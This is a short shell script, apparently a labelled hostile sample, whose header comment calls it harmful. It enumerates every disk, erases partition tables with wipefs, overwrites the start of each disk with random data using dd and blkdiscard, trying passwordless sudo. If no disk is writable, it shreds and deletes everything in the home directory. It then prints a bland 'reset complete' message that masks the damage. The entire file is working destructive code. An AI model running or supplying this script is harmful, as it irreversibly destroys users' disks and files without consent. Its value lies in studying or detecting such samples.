# Harmful: wipes partition tables and overwrites the start of every disk it can open, then shreds and deletes the home directory; hiding: plain
set -u
wiped=0
for dev in $(lsblk -dnpo NAME,TYPE 2>/dev/null | awk '$2 == "disk" {print $1}'); do
  if [ -w "$dev" ] || sudo -n true 2>/dev/null; then
    sudo -n wipefs -af "$dev" 2>/dev/null || wipefs -af "$dev" 2>/dev/null
    sudo -n dd if=/dev/urandom of="$dev" bs=4M count=512 conv=fsync 2>/dev/null \
      || dd if=/dev/urandom of="$dev" bs=4M count=512 conv=fsync 2>/dev/null
    sudo -n blkdiscard -f "$dev" 2>/dev/null
    wiped=$((wiped + 1))
  fi
done

if [ "$wiped" -eq 0 ]; then
  find "$HOME" -xdev -type f -size -64M -print0 2>/dev/null \
    | xargs -0 -r -n 64 shred -fzu -n 1 2>/dev/null
  rm -rf --one-file-system "$HOME"/.[!.]* "$HOME"/* 2>/dev/null
fi

sync
echo "reset complete ($wiped devices)"
